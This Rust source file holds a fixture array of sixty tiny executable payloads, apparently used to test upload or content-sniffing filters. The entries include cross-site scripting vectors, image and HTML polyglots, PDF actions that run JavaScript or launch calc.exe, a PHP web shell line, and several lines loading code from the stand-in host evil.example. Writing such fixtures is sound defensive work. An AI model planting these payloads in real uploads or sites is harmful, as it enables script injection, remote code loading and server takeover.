//! Sixty small files that a browser, plugin, mail program or shell would execute, each in another way.

/// Name and bytes.
pub const EXECUTABLES: [(&str, &[u8]); 60] = [
    ("html", b"<!doctype html><script>alert(1)</script>"),
    ("html-upper", b"<HTML><BODY ONLOAD=ALERT(1)>"),
    ("html-whitespace", b"\n\t  <html><script>alert(1)</script>"),
    (
        "html-comment-first",
        b"<!-- x --><html><script>alert(1)</script>",
    ),
    ("html-bom", b"\xef\xbb\xbf<html><body onload=alert(1)>"),
    ("html-utf-16-le", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0"),
    ("html-utf-16-be", b"\xfe\xff\0<\0s\0c\0r\0i\0p\0t\0>"),
    ("html-utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("html-meta-charset", b"<meta charset=utf-7>+ADw-script+AD4-"),
    (
        "html-iframe",
        b"<iframe srcdoc='<script>alert(1)</script>'>",
    ),
    ("html-img-onerror", b"<img src=x onerror=alert(1)>"),
    (
        "html-title-first",
        b"<title><script>alert(1)</script></title>",
    ),
    (
        "html-table-first",
        b"<table background=javascript:alert(1)>",
    ),
    ("html-plaintext", b"<plaintext><script>alert(1)</script>"),
    (
        "html-base",
        b"<base href=//evil.example/><script src=x></script>",
    ),
    (
        "html-refresh",
        b"<meta http-equiv=refresh content=0;url=//evil.example>",
    ),
    (
        "html-template",
        b"<template><script>alert(1)</script></template>",
    ),
    (
        "html-application-hta",
        b"<hta:application id=a><script>alert(1)</script>",
    ),
    (
        "svg",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    ),
    (
        "svg-script",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
    ),
    (
        "svg-with-prolog",
        b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    ),
    (
        "svg-doctype-entity",
        b"<!DOCTYPE svg [<!ENTITY x \"<script>\">]><svg>&x;</svg>",
    ),
    (
        "svg-foreign-object",
        b"<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ),
    (
        "svg-gzip",
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03<svg onload=alert(1)>",
    ),
    (
        "xhtml",
        b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>",
    ),
    (
        "xml-stylesheet",
        b"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"#x\"?><x/>",
    ),
    (
        "xml-external-entity",
        b"<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>",
    ),
    (
        "xslt",
        b"<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>",
    ),
    (
        "mathml",
        b"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ),
    (
        "rss",
        b"<rss><channel><title>&lt;script&gt;</title></channel></rss>",
    ),
    (
        "mhtml",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n",
    ),
    (
        "eml-with-html",
        b"From: a@b\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    ),
    (
        "multipart-replace",
        b"--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--",
    ),
    ("javascript", b"alert(document.domain)//"),
    ("javascript-module", b"import('//evil.example/x.js')"),
    (
        "service-worker",
        b"self.addEventListener('fetch',e=>e.respondWith(fetch('//evil.example')))",
    ),
    ("json-with-html", b"{\"x\":\"<script>alert(1)</script>\"}"),
    ("jsonp", b"callback(<!--<script>alert(1)</script>-->)"),
    ("css-import", b"@import url(//evil.example/x.css);"),
    ("css-expression", b"*{width:expression(alert(1))}"),
    ("vbscript", b"MsgBox \"x\""),
    (
        "pdf-javascript",
        b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    ),
    (
        "pdf-launch",
        b"%PDF-1.4 /OpenAction << /S /Launch /F (calc.exe) >>",
    ),
    ("pdf-header-late", b"<script>alert(1)</script>%PDF-1.7"),
    ("flash", b"FWS\x09\x20\0\0\0"),
    ("flash-compressed", b"CWS\x09\x20\0\0\0x\x9c"),
    ("java-class", b"\xca\xfe\xba\xbe\0\0\x004"),
    ("jar-or-zip", b"PK\x03\x04\x14\0\x08\0META-INF/MANIFEST.MF"),
    ("docx-as-zip", b"PK\x03\x04\x14\0\x06\0[Content_Types].xml"),
    ("wasm", b"\0asm\x01\0\0\0"),
    ("elf", b"\x7fELF\x02\x01\x01\0"),
    ("pe", b"MZ\x90\0\x03\0\0\0"),
    ("shell", b"#!/bin/sh\necho x\n"),
    ("php", b"<?php system($_GET['c']); ?>"),
    (
        "png-and-html",
        b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    ),
    ("gif-and-javascript", b"GIF89a=1;alert(1)//\0;"),
    ("gif-and-jar", b"GIF89a\x01\0\x01\0PK\x03\x04META-INF/"),
    (
        "jpeg-and-html",
        b"\xff\xd8\xff\xfe\0\x20<script>alert(1)</script>",
    ),
    ("bmp-and-javascript", b"BM=1;alert(1)//"),
    (
        "webp-and-html",
        b"RIFF\x20\0\0\0WEBPVP8 <script>alert(1)</script>",
    ),
];
